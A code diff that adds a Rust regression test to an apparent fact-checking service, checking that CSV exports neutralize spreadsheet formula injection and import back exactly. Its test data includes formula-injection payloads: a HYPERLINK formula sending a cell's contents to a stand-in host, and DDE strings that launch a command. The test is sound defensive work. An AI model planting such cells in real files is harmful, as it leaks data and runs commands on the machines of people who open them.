@@ -202,3 +202,100 @@ async fn regression_exports_download_whole_under_gzip() {
         assert_eq!(gz.decoded(), empty.get(path).await.body, "{path}");
     }
 }
+
+/// Cells a spreadsheet would run as a formula, and values next to the neutralizing quote.
+const HOSTILE_CELLS: [&str; 12] = [
+    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Open the report\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "'=already quoted",
+    "''@quoted twice",
+    "'tis the season",
+    "= with a space",
+    "Plain claim, with a comma",
+    "-",
+];
+
+/// Issue 15, finding 3: item and claim text comes from feeds and partners; no cell of a CSV
+/// export may start with `=`, `+`, `-`, `@`, tab or CR (OWASP: prefix a `'`), and importing
+/// the export gives back exactly what was stored.
+#[tokio::test]
+async fn regression_csv_exports_neutralize_formulas_and_import_back_exactly() {
+    let dir = tempfile::tempdir().unwrap();
+    let store = SqliteStore::open(&dir.path().join("t.db")).await.unwrap();
+    let batch: Vec<NewFactCheck> = HOSTILE_CELLS
+        .iter()
+        .enumerate()
+        .map(|(i, cell)| NewFactCheck {
+            fact_check: FactCheck {
+                source_id: format!("{cell} #{i}"),
+                claim: format!("{cell} #{i}"),
+                headline: Some(cell.to_string()),
+                author: Some(cell.to_string()),
+                claim_author: Some(cell.to_string()),
+                rating: Some(Rating {
+                    label: Some(cell.to_string()),
+                    ..Rating::default()
+                }),
+                language: Some("en".into()),
+                ..FactCheck::default()
+            },
+            duplicate_key: format!("hostile {i}"),
+        })
+        .collect();
+    store
+        .save_fact_checks(
+            &batch,
+            ImportSource {
+                file: "hostile",
+                format: "csv",
+                diagnostics: &[],
+                actor: Actor::Cli,
+            },
+        )
+        .await
+        .unwrap();
+    let d = desk_over(dir, store, Arc::new(NoMatches), ServerConfig::default()).await;
+    for cell in HOSTILE_CELLS {
+        d.store
+            .create_case(
+                &claimdesk_store::NewCase {
+                    claim: cell.to_string(),
+                    ..claimdesk_store::NewCase::default()
+                },
+                claimdesk_core::UserId(1),
+            )
+            .await
+            .unwrap();
+    }
+    for path in ["/export/factchecks.csv", "/export/cases.csv"] {
+        let csv = d.get(path).await;
+        assert_eq!(csv.status, 200);
+        let mut r = csv::ReaderBuilder::new()
+            .has_headers(false)
+            .from_reader(csv.body.as_bytes());
+        let mut rows = 0;
+        for rec in r.records() {
+            rows += 1;
+            for field in rec.unwrap().iter() {
+                assert!(
+                    !field.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{path}: a cell a spreadsheet runs: {field:?}"
+                );
+            }
+        }
+        assert_eq!(rows, HOSTILE_CELLS.len() + 1, "{path}");
+    }
+    let csv = d.get("/export/factchecks.csv").await;
+    let parsed = parse_fact_checks("x.csv", csv.body.as_bytes(), FactCheckFormat::Csv);
+    assert!(parsed.diagnostics.is_empty(), "{:?}", parsed.diagnostics);
+    let mut back: Vec<FactCheck> = parsed.records.into_iter().map(|r| r.value).collect();
+    back.sort_by(|a, b| a.source_id.cmp(&b.source_id));
+    let mut stored: Vec<FactCheck> = batch.into_iter().map(|n| n.fact_check).collect();
+    stored.sort_by(|a, b| a.source_id.cmp(&b.source_id));
+    // The tab and CR cells too: the importer trims fields, but the quote protects them.
+    assert_eq!(back, stored);
+}
